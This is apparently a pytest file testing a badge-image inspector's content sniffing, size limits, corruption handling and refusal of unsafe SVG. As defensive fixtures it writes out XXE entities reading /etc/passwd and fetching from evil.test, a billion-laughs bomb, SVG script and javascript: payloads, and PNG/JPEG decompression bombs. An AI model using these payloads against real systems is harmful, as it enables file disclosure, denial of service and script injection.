"""Badge images: type sniffing by content, size and pixel limits, truncation, unsafe SVG."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from backpack.openbadges.errors import ImageError
from backpack.openbadges.images import inspect_image, sniff_image_type

HEART_PNG = "openbadges-bakery/openbadges_bakery/testfiles/public_domain_heart.png"
VALIDATOR_CORE_PR246 = "openbadges-validator-core/_extra_from_history/pr246/tests/testfiles"
HEART_JPEG = f"{VALIDATOR_CORE_PR246}/public_domain_heart_jpeg.jpg"
EXAMPLE_SVG = "openbadges-bakery/openbadges_bakery/testfiles/unbaked_example.svg"
OB3_SVG = (
    "digital-credentials-public-validator/inspector-vc/src/test/resources/ob30/simple-json.svg"
)
SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'


def png_chunk(chunk_type: bytes, data: bytes) -> bytes:
    """One PNG chunk with its length and CRC."""
    crc = zlib.crc32(chunk_type + data)
    return struct.pack(">I", len(data)) + chunk_type + data + struct.pack(">I", crc)


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims the given size (a decompression bomb when large)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def raster(kind: str, size: tuple[int, int] = (4, 3)) -> bytes:
    """A real small image in a Pillow format."""
    buffer = io.BytesIO()
    Image.new("RGB", size, "red").save(buffer, kind)
    return buffer.getvalue()


def jpeg_claiming(width: int, height: int) -> bytes:
    """A real JPEG whose frame header is rewritten to claim another size."""
    data = bytearray(raster("JPEG"))
    frame = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, frame + 5, height, width)
    return bytes(data)


def svg(body: str, *, prolog: str = "", root_attributes: str = "") -> bytes:
    """An SVG document with the given content."""
    return f"{prolog}<svg {SVG_NS}{root_attributes}>{body}</svg>".encode()


@pytest.mark.parametrize(
    ("relative_path", "kind"),
    [
        (HEART_PNG, "png"),
        (HEART_JPEG, "jpeg"),
        (EXAMPLE_SVG, "svg"),
        (OB3_SVG, "svg"),  # an XML declaration and a DOCTYPE before the root
        ("mozilla-openbadges-bakery/test/unbaked.svg", "svg"),
    ],
)
def test_corpus_images_are_sniffed_by_content(corpus: Path, relative_path: str, kind: str) -> None:
    assert sniff_image_type((corpus / relative_path).read_bytes()) == kind


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (raster("GIF"), "gif"),
        (b"\xef\xbb\xbf  <!-- made by hand -->\n<svg " + SVG_NS.encode() + b"/>", "svg"),
        (b'<?xml version="1.0"?><?xml-stylesheet href="a.css"?><svg:svg xmlns:svg="x"/>', "svg"),
        (b"<html><body><svg></svg></body></html>", None),
        (b"<svgfont/>", None),
        (b"%PDF-1.7\n", None),
        (b"", None),
        (b'{"@context": "https://w3id.org/openbadges/v2"}', None),
    ],
)
def test_types_are_sniffed_from_content_not_names(data: bytes, kind: str | None) -> None:
    assert sniff_image_type(data) == kind


def test_png_is_described_with_its_size(corpus: Path) -> None:
    info = inspect_image((corpus / HEART_PNG).read_bytes())

    assert (info.kind, info.mime_type, info.width, info.height) == ("png", "image/png", 21, 19)


def test_jpeg_and_gif_are_described(corpus: Path) -> None:
    jpeg = inspect_image((corpus / HEART_JPEG).read_bytes())
    gif = inspect_image(raster("GIF", (7, 5)))

    assert (jpeg.kind, jpeg.mime_type, jpeg.width, jpeg.height) == ("jpeg", "image/jpeg", 21, 19)
    assert (gif.kind, gif.mime_type, gif.width, gif.height) == ("gif", "image/gif", 7, 5)


@pytest.mark.parametrize(
    ("attributes", "size"),
    [
        (' width="300" height="200"', (300, 200)),
        (' width="48px" height="47.6px"', (48, 48)),
        (' width="10mm" height="100%"', (None, None)),
        (' viewBox="0 0 10 10"', (None, None)),
    ],
)
def test_svg_size_is_known_only_in_pixels(
    attributes: str, size: tuple[int | None, int | None]
) -> None:
    info = inspect_image(svg("<rect/>", root_attributes=attributes))

    assert (info.kind, info.mime_type) == ("svg", "image/svg+xml")
    assert (info.width, info.height) == size


def test_svg_naming_the_standard_external_dtd_is_accepted(corpus: Path) -> None:
    # Many editors write the SVG 1.1 DOCTYPE; it is never loaded, so it is harmless.
    assert inspect_image((corpus / OB3_SVG).read_bytes()).kind == "svg"


@pytest.mark.parametrize(
    "data",
    [
        b"Just some text, not an image.",
        b"<html><body>Hello</body></html>",
        b"%PDF-1.7\n1 0 obj\n",
        b"RIFF\x00\x00\x00\x00WEBPVP8 ",
        b'<?xml version="1.0"?><badge/>',
    ],
)
def test_non_images_are_refused(data: bytes) -> None:
    with pytest.raises(ImageError) as caught:
        inspect_image(data)

    assert caught.value.code == "not_an_image"


def test_an_image_over_the_byte_limit_is_refused(corpus: Path) -> None:
    data = (corpus / HEART_PNG).read_bytes()

    with pytest.raises(ImageError) as caught:
        inspect_image(data, max_bytes=len(data) - 1)

    assert caught.value.code == "image_too_large"
    assert inspect_image(data, max_bytes=len(data)).kind == "png"


@pytest.mark.parametrize(
    "data",
    [
        png_claiming(100_000, 100_000),
        png_claiming(5_000, 4_000),  # above our limit, below Pillow's own
        jpeg_claiming(60_000, 60_000),
        jpeg_claiming(5_000, 4_000),
    ],
)
def test_a_decompression_bomb_is_refused_from_its_header(data: bytes) -> None:
    assert len(data) < 2_000

    with pytest.raises(ImageError) as caught:
        inspect_image(data)

    assert caught.value.code == "decompression_bomb"


def test_the_pixel_limit_is_configurable(corpus: Path) -> None:
    data = (corpus / HEART_PNG).read_bytes()

    with pytest.raises(ImageError) as caught:
        inspect_image(data, max_pixels=21 * 19 - 1)

    assert caught.value.code == "decompression_bomb"
    assert inspect_image(data, max_pixels=21 * 19).width == 21


def flip_byte(data: bytes, offset: int) -> bytes:
    """The data with one byte changed."""
    return data[:offset] + bytes([data[offset] ^ 0xFF]) + data[offset + 1 :]


@pytest.mark.parametrize(
    "damage",
    [
        pytest.param(lambda data: data[: len(data) // 2], id="cut in half"),
        pytest.param(lambda data: data[:-12], id="no IEND"),
        pytest.param(lambda data: data[:20], id="cut inside IHDR"),
        pytest.param(lambda data: flip_byte(data, len(data) - 30), id="bad CRC"),
    ],
)
def test_a_truncated_or_corrupt_png_is_refused(
    corpus: Path, damage: Callable[[bytes], bytes]
) -> None:
    data = (corpus / HEART_PNG).read_bytes()

    with pytest.raises(ImageError) as caught:
        inspect_image(damage(data))

    assert caught.value.code == "truncated_image"


def test_a_png_whose_pixel_data_does_not_decode_is_refused() -> None:
    header = struct.pack(">IIBBBBB", 4, 3, 8, 2, 0, 0, 0)
    data = (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", b"this is not zlib data")
        + png_chunk(b"IEND", b"")
    )

    with pytest.raises(ImageError) as caught:
        inspect_image(data)

    assert caught.value.code == "truncated_image"


def test_a_truncated_jpeg_is_refused(corpus: Path) -> None:
    data = (corpus / HEART_JPEG).read_bytes()

    with pytest.raises(ImageError) as caught:
        inspect_image(data[: len(data) // 2])

    assert caught.value.code == "truncated_image"


def test_a_truncated_svg_is_refused(corpus: Path) -> None:
    data = (corpus / EXAMPLE_SVG).read_bytes()

    with pytest.raises(ImageError) as caught:
        inspect_image(data[: len(data) // 2])

    assert caught.value.code == "truncated_image"


def test_malformed_svg_is_not_an_image() -> None:
    with pytest.raises(ImageError) as caught:
        inspect_image(svg("<g></rect>"))

    assert caught.value.code == "not_an_image"


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE svg [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
"""


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(svg("<text>&lol3;</text>", prolog=BILLION_LAUGHS), id="billion laughs"),
        pytest.param(
            svg(
                "<text>&xxe;</text>",
                prolog='<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
            ),
            id="XXE system entity",
        ),
        pytest.param(
            svg(
                "<text>x</text>",
                prolog='<!DOCTYPE svg [<!ENTITY % dtd SYSTEM "http://evil.test/x.dtd"> %dtd;]>',
            ),
            id="external parameter entity",
        ),
        pytest.param(
            svg("<g/>", prolog='<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'),
            id="attribute default in an internal subset",
        ),
    ],
)
def test_svg_with_a_dtd_subset_or_entities_is_unsafe(data: bytes) -> None:
    with pytest.raises(ImageError) as caught:
        inspect_image(data)

    assert caught.value.code == "unsafe_svg"


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(svg("<script>alert(1)</script>"), id="script element"),
        pytest.param(svg("<g/>", root_attributes=' onload="alert(1)"'), id="onload on the root"),
        pytest.param(svg('<g><rect ONCLICK="steal()"/></g>'), id="nested event attribute"),
        pytest.param(svg('<a href="javascript:alert(1)"><text>x</text></a>'), id="javascript href"),
        pytest.param(
            svg(
                '<a xlink:href=" Java&#10;Script:alert(1)"><text>x</text></a>',
                root_attributes=' xmlns:xlink="http://www.w3.org/1999/xlink"',
            ),
            id="disguised javascript xlink:href",
        ),
        pytest.param(
            svg('<set attributeName="href" to="javascript:alert(1)"/>'),
            id="javascript set by animation",
        ),
        pytest.param(
            svg(
                '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>'
            ),
            id="foreignObject",
        ),
        pytest.param(
            svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'),
            id="XHTML script",
        ),
    ],
)
def test_svg_with_scripts_is_refused(data: bytes) -> None:
    with pytest.raises(ImageError) as caught:
        inspect_image(data)

    assert caught.value.code == "svg_has_scripts"


def test_svg_without_scripts_is_accepted(corpus: Path) -> None:
    harmless = svg('<a href="https://example.org/"><text font-family="Open Sans">on</text></a>')

    assert inspect_image(harmless).kind == "svg"
    assert inspect_image((corpus / EXAMPLE_SVG).read_bytes()).width == 300


@pytest.mark.parametrize("chunk_type", [b"zTXt", b"iCCP"])
def test_a_png_with_ballooning_compressed_metadata_is_refused(chunk_type: bytes) -> None:
    # Pillow inflates these while opening; they are measured before it sees them.
    bomb = b"Comment\x00\x00" + zlib.compress(b" " * 20_000_000, 9)
    data = png_claiming(4, 3)
    ihdr_end = 8 + 8 + 13 + 4
    data = data[:ihdr_end] + png_chunk(chunk_type, bomb) + data[ihdr_end:]

    with pytest.raises(ImageError) as caught:
        inspect_image(data)

    assert caught.value.code == "decompression_bomb"
